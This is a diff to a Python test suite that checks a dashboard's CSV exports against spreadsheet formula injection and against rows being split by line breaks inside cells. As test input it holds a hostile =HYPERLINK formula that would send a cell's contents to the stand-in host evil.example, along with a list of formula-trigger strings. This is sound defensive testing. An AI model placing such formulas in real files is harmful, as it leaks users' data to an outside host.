@@ -1,7 +1,10 @@
-"""CSV downloads are safe to open in a spreadsheet: no formula in a cell runs.
+"""CSV downloads are safe to open in a spreadsheet: no formula in a cell runs, and no
+line break splits a row, whichever way a CSV is made.
 
-The facts are loaded through the real loader from a fact file in a temporary
-project, as a curator's mistake or a hostile edit would arrive.
+The facts are loaded through the real loader from a fact file in a copy of the harbours
+fixture project, as a curator's mistake or a hostile edit would arrive. Streamlit's own
+table toolbar writes cells raw, so its export is switched off (a browser test checks
+that it offers no download, tests/browser/test_hostile.py) and every table has ours.
 """
 
 from __future__ import annotations
@@ -11,16 +14,16 @@ import io
 import json
 import subprocess
 import sys
-from collections.abc import Callable
+import tomllib
 from pathlib import Path
 
 import pytest
+import streamlit as st
 
 from dashboard import exports, transforms
 from dashboard.cli import main
 from dashboard.facts.load import load_facts
 from dashboard.paths import REPO_DIR
-from tests.conftest import BASE_FACT
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the source")'
 
@@ -33,6 +36,21 @@ TRIGGERS: list[tuple[str, str]] = [
     ("tab", "\t=1+1"),
     ("carriage return", "\r=1+1"),
 ]
+BASE_FACT = """\
+facts:
+  - id: test-fact
+    statement: A test fact.
+    topic: arrivals
+    partnership: Norland–Estmark
+    countries: [Norland]
+    value: 212
+    unit: persons
+    exactness: exact
+    status: happened
+    date: {edtf: "2025-02-24/2025-03-02", precision: week, reason: "A test fact's week."}
+    source: 101_norland_estmark.txt
+    quote: "212 people crossed the Sound"
+"""
 
 
 def with_text(field: str, text: str) -> str:
@@ -40,6 +58,10 @@ def with_text(field: str, text: str) -> str:
     if field == "statement":
         return BASE_FACT.replace("statement: A test fact.", f"statement: {json.dumps(text)}")
     return BASE_FACT + f"    {field}: {json.dumps(text)}\n"
+
+
+def write(project: Path, content: str) -> None:
+    (project / "facts" / "zz-test.facts.yaml").write_text(content, encoding="utf-8")
 
 
 def csv_rows(data: bytes) -> dict[str, dict[str, str]]:
@@ -55,47 +77,50 @@ def exported_rows(project: Path) -> dict[str, dict[str, str]]:
 
 @pytest.mark.parametrize("field", ["statement", "measure", "notes"])
 @pytest.mark.parametrize("text", [pytest.param(text, id=name) for name, text in TRIGGERS])
-def test_formula_cells_get_a_leading_quote(
-    write_facts: Callable[[str], Path], project: Path, field: str, text: str
-) -> None:
-    write_facts(with_text(field, text))
-    row = exported_rows(project)["test-fact"]
+def test_formula_cells_get_a_leading_quote(harbours: Path, field: str, text: str) -> None:
+    write(harbours, with_text(field, text))
+    row = exported_rows(harbours)["test-fact"]
     assert row[field] == "'" + text
-    assert row["value"] == "509.0"  # numbers stay numbers, never quoted
-    assert float(row["value"]) == 509
+    assert row["value"] == "212.0"  # numbers stay numbers, never quoted
+    assert float(row["value"]) == 212
 
 
-def test_ordinary_text_and_negative_looking_numbers_are_left_alone(
-    write_facts: Callable[[str], Path], project: Path
-) -> None:
-    write_facts(with_text("notes", "A 5-day count; 2 = two boats."))
-    rows = exported_rows(project)
+def test_ordinary_text_and_negative_looking_numbers_are_left_alone(harbours: Path) -> None:
+    write(harbours, with_text("notes", "A 5-day count; 2 = two boats."))
+    rows = exported_rows(harbours)
     assert rows["test-fact"]["statement"] == "A test fact."
     assert rows["test-fact"]["notes"] == "A 5-day count; 2 = two boats."
     assert rows["test-fact"]["fact_line"] == "2"
-    # The real facts: text that does not start with a trigger is unchanged.
-    real = rows["uk-crossings-2024-to-date"]
-    assert real["statement"].startswith("29,154 people crossed the Channel")
-    assert real["value"] == "29154.0"
+    # Text that does not start with a trigger is unchanged.
+    fixture = rows["ne-crossings-2024"]
+    assert fixture["statement"] == "4,210 people crossed the Sound in dinghies in 2024."
+    assert fixture["value"] == "4210.0"
 
 
 def test_cli_export_neutralises_the_formula(
-    write_facts: Callable[[str], Path], project: Path, capsysbinary: pytest.CaptureFixture[bytes]
+    harbours: Path, capsysbinary: pytest.CaptureFixture[bytes]
 ) -> None:
-    write_facts(with_text("statement", HYPERLINK))
-    assert main(["--project", str(project), "export", "--format", "csv"]) == 0
+    write(harbours, with_text("statement", HYPERLINK))
+    assert main(["--project", str(harbours), "export", "--format", "csv"]) == 0
     row = csv_rows(capsysbinary.readouterr().out)["test-fact"]
     assert row["statement"] == "'" + HYPERLINK
-    assert row["value"] == "509.0"
+    assert row["value"] == "212.0"
 
 
-def test_python_m_dashboard_export_neutralises_the_formula(
-    write_facts: Callable[[str], Path], project: Path
-) -> None:
+def test_python_m_dashboard_export_neutralises_the_formula(harbours: Path) -> None:
     """The command exactly as a user types it, in a process of its own."""
-    write_facts(with_text("statement", HYPERLINK))
+    write(harbours, with_text("statement", HYPERLINK))
     done = subprocess.run(
-        [sys.executable, "-m", "dashboard", "--project", str(project), "export", "--format", "csv"],
+        [
+            sys.executable,
+            "-m",
+            "dashboard",
+            "--project",
+            str(harbours),
+            "export",
+            "--format",
+            "csv",
+        ],
         cwd=REPO_DIR,
         capture_output=True,
         timeout=120,
@@ -104,16 +129,22 @@ def test_python_m_dashboard_export_neutralises_the_formula(
     assert done.returncode == 0, done.stderr.decode()
     row = csv_rows(done.stdout)["test-fact"]
     assert row["statement"] == "'" + HYPERLINK
-    assert row["value"] == "509.0"
+    assert row["value"] == "212.0"
 
 
-def test_line_breaks_inside_a_cell_never_split_the_row(
-    write_facts: Callable[[str], Path], project: Path
-) -> None:
+def test_line_breaks_inside_a_cell_never_split_the_row(harbours: Path) -> None:
     notes = "first line\rsecond line\r\nthird line\nfourth"
-    write_facts(with_text("notes", notes))
-    factset = load_facts(project)
+    write(harbours, with_text("notes", notes))
+    factset = load_facts(harbours)
     data = exports.to_csv(transforms.facts_table(factset))
     rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
     assert len(rows) == 1 + len(factset.facts)
     assert csv_rows(data)["test-fact"]["notes"] == notes
+
+
+def test_streamlits_own_table_export_is_switched_off() -> None:
+    """Its toolbar's "Download as CSV" writes formulas raw and splits rows on a CR."""
+    config = tomllib.loads((REPO_DIR / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
+    assert config["client"]["disableDataExport"] is True
+    # The tests run from the repository, as the server does: Streamlit read that file.
+    assert st.get_option("client.disableDataExport") is True
